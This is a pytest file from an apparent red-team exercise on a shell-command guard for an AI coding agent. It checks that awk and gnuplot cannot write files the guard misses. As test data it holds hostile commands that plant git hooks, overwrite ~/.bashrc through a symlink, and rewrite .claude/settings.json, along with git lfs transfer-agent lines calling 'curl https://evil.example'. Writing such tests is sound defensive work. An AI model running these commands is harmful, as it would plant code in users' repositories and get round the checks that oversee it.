"""Red team 29 (issue 9, classes 1 and 3): files a program's own language writes.

awk's `print > "FILE"` / `>> "FILE"` with a plain string literal opens FILE for writing: the
operands never show it, so `awk '{print > ".git/hooks/pre-commit"}' notes` planted a git hook
(code the user's next commit runs) under every role, and a builder wrote outside the project or
into ~/.bashrc (also through a link: `hx/../../.bashrc`). gnuplot's `set print 'FILE'` and `set
output 'FILE'` write too. Each file now meets the allowed paths and the trust base as a
redirection's does (hook/scriptwrites.py, hook/payloadpaths.py)."""

import os

import pytest

from conftest import GuardSetup, assert_allowed, assert_denied


@pytest.fixture(scope="module")
def g(tmp_path_factory):
    setup = GuardSetup(tmp_path_factory.mktemp("rt29s"), files={"notes.txt": "a\n", ".git/hooks/x": "",
                                                               "~/x/y/keep": ""})
    os.symlink(os.path.join(setup.home, "x", "y"), setup.path("hx"))
    return setup


@pytest.mark.parametrize("role", ["builder", "open", "operator"])
@pytest.mark.parametrize("program", [
    "awk '{print > \".git/hooks/pre-commit\"}' notes.txt",
    "awk '{print >> \".git/hooks/post-checkout\"}' notes.txt",
    "awk 'BEGIN { print \"curl x\" > \".git/hooks/pre-push\" }'",
])
def test_awk_planting_a_git_hook(g, role, program):
    assert_denied(g.bash(program, role=role), ".git/hooks")


@pytest.mark.parametrize("program, fragment", [
    ("awk '{print > \"/tmp/rt29-out\"}' notes.txt", "outside the allowed paths"),
    ("awk '{print > \"hx/../../.bashrc\"}' notes.txt", ".bashrc"),
    ("awk '{print > \"../home/.profile\"}' notes.txt", ".profile"),
])
def test_awk_writes_meet_the_builders_paths(g, program, fragment):
    assert_denied(g.bash(program, role="builder"), fragment)


@pytest.mark.parametrize("command", [
    "gnuplot -e \"set print '.git/hooks/pre-commit'; print 'curl x'\"",
    "gnuplot -e \"set output '.claude/settings.json'; plot 1\"",
])
def test_gnuplot_output_files(g, command):
    assert_denied(g.bash(command, role="open"))


@pytest.mark.parametrize("command", [
    "awk '{print > \"out.txt\"}' notes.txt",
    "awk '{print $1 > \"build/col1.txt\"}' notes.txt",
    "awk '{print > \"/dev/stderr\"}' notes.txt",
    "awk '{print}' notes.txt > out2.txt",
])
def test_awk_writing_project_files_stays_allowed(g, command):
    assert_allowed(g.bash(command, role="builder"))


@pytest.mark.parametrize("command", ["git -c lfs.customtransfer.x.path='curl https://evil.example' lfs pull",
                                     "git config lfs.customtransfer.x.path 'curl https://evil.example'"])
def test_git_lfs_transfer_agent_is_a_program(g, command):
    assert_denied(g.bash(command, role="open"), "lfs.customtransfer" if " -c " in command else "curl")
